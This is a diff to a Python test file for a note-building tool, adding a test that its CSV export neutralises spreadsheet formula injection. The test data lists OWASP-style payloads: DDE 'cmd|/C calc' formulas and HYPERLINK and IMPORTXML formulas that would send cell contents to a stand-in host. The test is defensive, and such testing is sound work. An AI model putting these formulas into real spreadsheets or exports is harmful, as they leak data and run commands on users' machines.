@@ -16,6 +16,7 @@ in Word (OUTPUT_CHECKS); the README's reliability section quotes these figures.
 from __future__ import annotations
 
 import copy
+import csv
 import functools
 import html
 import io
@@ -26,14 +27,18 @@ import zipfile
 from collections import Counter
 from collections.abc import Callable
 from dataclasses import dataclass
+from decimal import Decimal
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any, Literal
 
 import pytest
 import yaml
+from click.testing import CliRunner
 from lxml import etree
 
+from notebuild.activities import csv_text
+from notebuild.cli import main
 from notebuild.pipeline import check_file, compose, render_outputs
 from notebuild.writers.html import environment
 
@@ -831,3 +836,53 @@ def test_payload_page_runs_nothing_in_chromium(browser_results, base):
 def test_payload_pages_are_opened_with_their_policy_in_force(browser_results):
     result = browser_results[CONTROL]
     assert [v.split()[0] for v in result["csp_violations"]] == ["script-src-elem"]
+
+
+# --- spreadsheet formulas in the round's CSV --------------------------------------------------
+
+# From OWASP's "CSV Injection" page and the payloads it cites: each would run as a formula in
+# Excel, LibreOffice or Sheets if it stood at the start of a cell.
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1&B1,"Klik her")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    '=IMPORTXML(CONCAT("http://example.invalid/?v=", CONCATENATE(A2:E2)), "//a")',
+]
+
+
+def test_csv_cells_are_never_formulas_and_amounts_stay_numbers(tmp_path):
+    notes = tmp_path / "notes"
+    notes.mkdir()
+    text = (NOTES / "BI19.yaml").read_text("utf-8")
+    names = re.findall(r"(?m)^    - navn: (.*)$", text)[:3]  # the three activities
+    # Written as JSON strings, which YAML reads as double-quoted scalars (with \t and \n).
+    text = text.replace(
+        "titel: Forankring af metoder fra Projekt Trædesten", f"titel: {json.dumps(FORMULAS[0])}"
+    )
+    for name, formula in zip(
+        names, ["To\nlinjer\r\nog mere", FORMULAS[1], FORMULAS[3]], strict=False
+    ):
+        text = text.replace(f"- navn: {name}\n", f"- navn: {json.dumps(formula)}\n", 1)
+    (notes / "BI19.yaml").write_text(text, "utf-8")
+    result = CliRunner().invoke(main, ["build", str(notes), "--out", str(tmp_path / "build")])
+    assert result.exit_code == 0, result.output
+    data = (tmp_path / "build" / "aktiviteter.csv").read_bytes().decode("utf-8-sig")
+    assert "\n" not in data.replace("\r\n", "")  # one line per row: no break inside a cell
+    header, *rows = csv.reader(io.StringIO(data), delimiter=";")
+    amount, year = header.index("Beløb"), header.index("År")
+    seen = set()
+    for row in rows:
+        for column, cell in enumerate(row):
+            if column in (amount, year):
+                Decimal(cell.replace(",", "."))  # a number, as written before
+            else:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+                seen.add(cell)
+    assert "'" + FORMULAS[0] in seen
+    assert any(cell.startswith("'+1+cmd") for cell in seen)
+    assert any(cell.startswith("'@SUM") for cell in seen)
+    assert "To linjer og mere" in seen
+    for formula in FORMULAS:
+        assert csv_text(formula) == "'" + formula
